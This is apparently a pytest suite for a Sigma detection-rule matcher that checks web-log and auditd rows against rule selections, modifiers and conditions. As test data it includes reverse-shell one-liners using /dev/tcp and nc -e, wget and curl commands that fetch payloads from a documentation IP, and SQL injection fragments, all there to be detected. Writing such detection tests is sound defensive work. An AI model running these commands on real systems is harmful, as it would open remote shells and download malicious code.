"""The Sigma matcher: selections, keywords, modifiers and conditions, one row at a time."""

from __future__ import annotations

import base64
import json
import textwrap
from typing import Any

import pytest

from breachkit.logs.sigma.fields import AUDITD, PROCESS_CREATION, WEB, Row, Target, target_for
from breachkit.logs.sigma.load import LoadedRule, RuleProblem, load_text
from breachkit.logs.sigma.matcher import MAX_REGEX, CompiledRule, Unsupported, compile_rule


def _rule(detection: str, logsource: str = "category: webserver") -> LoadedRule:
    text = "title: Test rule\nstatus: test\nlogsource:\n"
    text += textwrap.indent(logsource, "    ") + "\ndetection:\n" + textwrap.indent(textwrap.dedent(detection), "    ")
    text += "level: medium\n"
    loaded = list(load_text(text, "test.yml"))
    assert len(loaded) == 1
    assert isinstance(loaded[0], LoadedRule), loaded[0]
    return loaded[0]


def _compile(detection: str, logsource: str = "category: webserver") -> CompiledRule:
    loaded = _rule(detection, logsource)
    target = target_for(loaded.rule.logsource)
    assert isinstance(target, Target)
    return compile_rule(loaded.rule, target)


def web(**values: Any) -> Row:
    row = {
        "time_ns": 1_795_000_000_000_000_000,
        "ip": "203.0.113.77",
        "user": None,
        "method": "GET",
        "target": "/index.php",
        "path": "/index.php",
        "protocol": "HTTP/1.1",
        "status": 200,
        "size": 5120,
        "referer": None,
        "agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "vhost": "shop.example",
        "site": "shop.example",
        "source_file": "/var/log/apache2/access.log",
        "source_line": 1,
    }
    row.update(values)
    return Row(row)


def matches(detection: str, *rows: Row, logsource: str = "category: webserver") -> list[bool]:
    compiled = _compile(detection, logsource)
    return [compiled.test(row) for row in rows]


def test_map_is_and_list_of_maps_is_or_and_values_are_or() -> None:
    detection = """
    selection:
        cs-method: POST
        cs-uri-stem|endswith: ['/upload.php', '/import.php']
    condition: selection
    """
    assert matches(
        detection,
        web(method="POST", path="/admin/upload.php"),
        web(method="POST", path="/admin/import.php"),
        web(method="GET", path="/admin/upload.php"),
        web(method="POST", path="/index.php"),
    ) == [True, True, False, False]
    either = """
    selection:
        - cs-method: PUT
        - sc-status: 500
    condition: selection
    """
    assert matches(either, web(method="PUT"), web(status=500), web()) == [True, True, False]


def test_strings_are_case_insensitive_with_wildcards_and_cased_is_exact() -> None:
    detection = """
    selection:
        c-useragent: 'sqlmap/1.?#stable*'
    condition: selection
    """
    assert matches(
        detection,
        web(agent="sqlmap/1.8#stable (https://sqlmap.org)"),
        web(agent="SQLMAP/1.7#STABLE"),
        web(agent="sqlmap/1.10#stable"),  # ? is exactly one character
        web(agent="xsqlmap/1.8#stable"),  # a value without leading * is anchored
    ) == [True, True, False, False]
    cased = """
    selection:
        cs-method|cased: 'Post'
    condition: selection
    """
    assert matches(cased, web(method="Post"), web(method="POST")) == [True, False]
    escaped = """
    selection:
        cs-uri-query|contains: 'q=\\*'
    condition: selection
    """
    assert matches(escaped, web(target="/s?q=*"), web(target="/s?q=abc")) == [True, False]


def test_contains_all_startswith_and_plain_equality() -> None:
    detection = """
    selection:
        cs-uri-query|contains|all: ['union', 'select']
        cs-uri-stem|startswith: '/shop/'
    condition: selection
    """
    assert matches(
        detection,
        web(target="/shop/item.php?id=1 UNION SELECT pass", path="/shop/item.php"),
        web(target="/shop/item.php?id=1 union", path="/shop/item.php"),
        web(target="/blog/?id=1 union select", path="/blog/"),
    ) == [True, False, False]


def test_keywords_match_anywhere_in_the_line() -> None:
    detection = """
    keywords:
        - 'thumb_cache.php\\?cmd='
        - 'wget*http'
    condition: keywords
    """
    assert matches(
        detection,
        web(target="/images/THUMB_CACHE.php?cmd=id"),
        web(target="/x.php?c=cd /tmp; wget -q http://198.51.100.23/k"),
        web(agent="Wget/1.21"),
    ) == [True, True, False]


def test_regex_is_case_sensitive_unless_flagged_and_is_a_search() -> None:
    detection = """
    selection:
        c-useragent|re: 'python-requests/2\\.\\d+'
    condition: selection
    """
    assert matches(detection, web(agent="x python-requests/2.32.3"), web(agent="Python-Requests/2.32")) == [True, False]
    insensitive = """
    selection:
        c-useragent|re|i: '^python-requests/'
    condition: selection
    """
    assert matches(insensitive, web(agent="Python-Requests/2.32"), web(agent="x python-requests/2")) == [True, False]


def test_catastrophic_backtracking_pattern_runs_in_linear_time() -> None:
    # With Python's re, (a+)+$ on 50,000 'a's and a '!' backtracks for longer than the universe exists.
    detection = """
    selection:
        cs-uri-query|re: '(a+)+$'
    condition: selection
    """
    hostile = "/?" + "a" * 50_000 + "!"
    assert matches(detection, web(target=hostile), web(target="/?aaaa")) == [False, True]


def test_regex_longer_than_the_cap_is_refused() -> None:
    detection = f"""
    selection:
        cs-uri-query|re: '{"a" * (MAX_REGEX + 1)}'
    condition: selection
    """
    with pytest.raises(Unsupported) as raised:
        _compile(detection)
    assert raised.value.kind == "unsupported-value"


def test_base64_and_base64offset() -> None:
    payload = "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
    for prefix in ("", "x", "xy"):  # every alignment of the needle inside the encoded text
        encoded = base64.b64encode((prefix + payload).encode()).decode()
        assert matches(
            """
            selection:
                cs-uri-query|base64offset|contains: 'bash -i'
            condition: selection
            """,
            web(target=f"/x.php?c={encoded}"),
        ) == [True], prefix
    plain = """
    selection:
        cs-uri-query|base64|contains: 'id;uname'
    condition: selection
    """
    assert matches(plain, web(target="/x.php?c=" + base64.b64encode(b"id;uname").decode()), web()) == [True, False]


def test_cidr_null_numbers_compare_and_exists() -> None:
    cidr = """
    selection:
        c-ip|cidr: ['10.0.0.0/8', '2001:db8::/32']
    condition: selection
    """
    assert matches(cidr, web(ip="10.1.2.3"), web(ip="2001:db8::7"), web(ip="11.0.0.1"), web(ip="not an ip")) == [
        True,
        True,
        False,
        False,
    ]
    null = """
    selection:
        cs-referer: null
    condition: selection
    """
    assert matches(null, web(referer=None), web(referer="https://shop.example/")) == [True, False]
    numbers = """
    selection:
        sc-status: 404
        sc-bytes|gte: 1000
    condition: selection
    """
    assert matches(numbers, web(status=404, size=1000), web(status=404, size=999), web(status=200, size=5000)) == [
        True,
        False,
        False,
    ]
    exists = """
    selection:
        cs-username|exists: true
    condition: selection
    """
    assert matches(exists, web(user="admin"), web(user=None)) == [True, False]


def test_windash_expands_dash_forms() -> None:
    detection = """
    selection:
        CommandLine|windash|contains: ' -e /bin/sh'
    condition: selection
    """
    rows = [_exec("nc 198.51.100.23 4444 -e /bin/sh"), _exec("nc 198.51.100.23 4444 /e /bin/sh"), _exec("nc -l 80")]
    assert matches(detection, *rows, logsource="product: linux\ncategory: process_creation") == [True, True, False]


def test_condition_grammar() -> None:
    detection = """
    sel_a:
        cs-method: POST
    sel_b:
        sc-status: 200
    filter_local:
        c-ip|cidr: 127.0.0.0/8
    _helper:
        cs-method: DELETE
    condition: (sel_a or sel_b) and not 1 of filter_*
    """
    assert matches(detection, web(method="POST", status=500), web(ip="127.0.0.1"), web(status=302)) == [
        True,
        False,
        False,
    ]
    all_of = """
    sel_a:
        cs-method: POST
    sel_b:
        sc-status: 200
    condition: all of sel_*
    """
    assert matches(all_of, web(method="POST"), web(method="GET")) == [True, False]
    them = """
    sel_a:
        cs-method: POST
    _helper:
        cs-method: GET
    condition: all of them
    """
    # 'them' leaves out _helper, so a POST matches although _helper does not.
    assert matches(them, web(method="POST"), web(method="GET")) == [True, False]
    one_of_them = """
    sel_a:
        cs-method: POST
    sel_b:
        sc-status: 500
    condition: 1 of them and not sel_a
    """
    assert matches(one_of_them, web(status=500), web(method="POST", status=500)) == [True, False]
    listed = """
    sel_a:
        cs-method: POST
    sel_b:
        sc-status: 500
    condition:
        - sel_a
        - sel_b
    """
    assert matches(listed, web(status=500), web(method="POST"), web()) == [True, True, False]


@pytest.mark.parametrize(
    "condition",
    ["selection and", "(selection", "selection or or selection", "2 selection", "3 of sel*", "not", "selection )"],
)
def test_bad_conditions_are_reported(condition: str) -> None:
    loaded = _rule(f"selection:\n    cs-method: POST\ncondition: '{condition}'\n")
    with pytest.raises(Unsupported) as raised:
        compile_rule(loaded.rule, WEB)
    assert raised.value.kind == "invalid"
    assert "condition" in raised.value.detail


def test_deeply_nested_condition_is_refused_not_a_recursion_error() -> None:
    for condition in ("not " * 5000 + "selection", "(" * 5000 + "selection" + ")" * 5000):
        loaded = _rule(f"selection:\n    cs-method: POST\ncondition: '{condition}'\n")
        with pytest.raises(Unsupported):
            compile_rule(loaded.rule, WEB)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000 + "]" * 100_000,
        "{a: " * 20_000 + "b" + "}" * 20_000,
        "- " * 5000 + "x",
        "a:\n" + "".join(" " * i + "b:\n" for i in range(1, 2000)),
    ],
)
def test_deeply_nested_yaml_is_refused_not_a_recursion_error(text: str) -> None:
    results = list(load_text(text, "deep.yml"))
    assert [r.kind for r in results if isinstance(r, RuleProblem)] == ["unsupported-yaml"]


def test_unknown_field_and_unsupported_logsources() -> None:
    loaded = _rule("selection:\n    cs-cookie: x\ncondition: selection\n")
    with pytest.raises(Unsupported) as raised:
        compile_rule(loaded.rule, WEB)
    assert raised.value.kind == "unknown-field"
    windows = _rule("selection:\n    Image: x\ncondition: selection\n", "product: windows\ncategory: process_creation")
    assert isinstance(target_for(windows.rule.logsource), str)
    network = _rule("selection:\n    x: y\ncondition: selection\n", "product: linux\ncategory: network_connection")
    assert "not recorded" in str(target_for(network.rule.logsource))


def _exec(command: str, **fields: str) -> Row:
    args = command.split(" ")
    record = {"exe": f"/usr/bin/{args[0]}", "comm": args[0], "key": "exec", "syscall": "59", "cwd": "/tmp"}
    record.update(fields)
    return Row(
        {
            "time_ns": 1,
            "source": "audit",
            "kind": "exec",
            "host": None,
            "path": record["exe"],
            "user": "www-data",
            "ip": None,
            "message": f"SYSCALL/EXECVE/CWD/PATH/PROCTITLE: {command}",
            "source_file": "/var/log/audit/audit.log",
            "source_line": 10,
            "extra": json.dumps({"serial": 1, "fields": record}),
        }
    )


def test_auditd_fields_types_and_argv() -> None:
    detection = """
    selection:
        type: EXECVE
        a0: curl
        a2|startswith: /tmp/
        key: exec
        SYSCALL: execve
    condition: selection
    """
    rows = [
        _exec("curl -o /tmp/.X11-cache/kworkerd http://198.51.100.23/k.bin", SYSCALL="execve"),
        _exec("curl -o /home/anna/k.bin http://198.51.100.23/k.bin", SYSCALL="execve"),
        _exec("curl -o /tmp/x http://198.51.100.23/k.bin"),  # no enriched SYSCALL field
    ]
    compiled = compile_rule(_rule(detection, "product: linux\nservice: auditd").rule, AUDITD)
    assert [compiled.test(row) for row in rows] == [True, False, False]


def test_process_creation_reads_audit_and_shell_history() -> None:
    detection = """
    selection:
        CommandLine|contains|all: ['bash -i', '/dev/tcp/']
    condition: selection
    """
    compiled = compile_rule(_rule(detection, "product: linux\ncategory: process_creation").rule, PROCESS_CREATION)
    history = Row(
        {"source": "shell-history", "kind": "command", "message": "bash -i >& /dev/tcp/198.51.100.23/443 0>&1"}
    )
    assert compiled.test(history)
    assert compiled.test(_exec("bash -c bash -i >& /dev/tcp/198.51.100.23/443 0>&1"))
    assert not compiled.test(_exec("bash -i"))


def test_malformed_rule_text_is_a_problem_not_an_exception() -> None:
    texts = [
        "title: x\nlogsource: {category: webserver}\ndetection: {condition: sel}\n",  # no selection
        "title: x\nlogsource: 5\ndetection: {sel: {a: b}, condition: sel}\n",
        "title: x\nlogsource: {category: webserver}\ndetection: [1, 2]\n",
        "- not a rule\n",
        "title: [unclosed\n",
    ]
    for text in texts:
        results = list(load_text(text, "x.yml"))
        assert results and all(isinstance(r, RuleProblem) for r in results), (text, results)
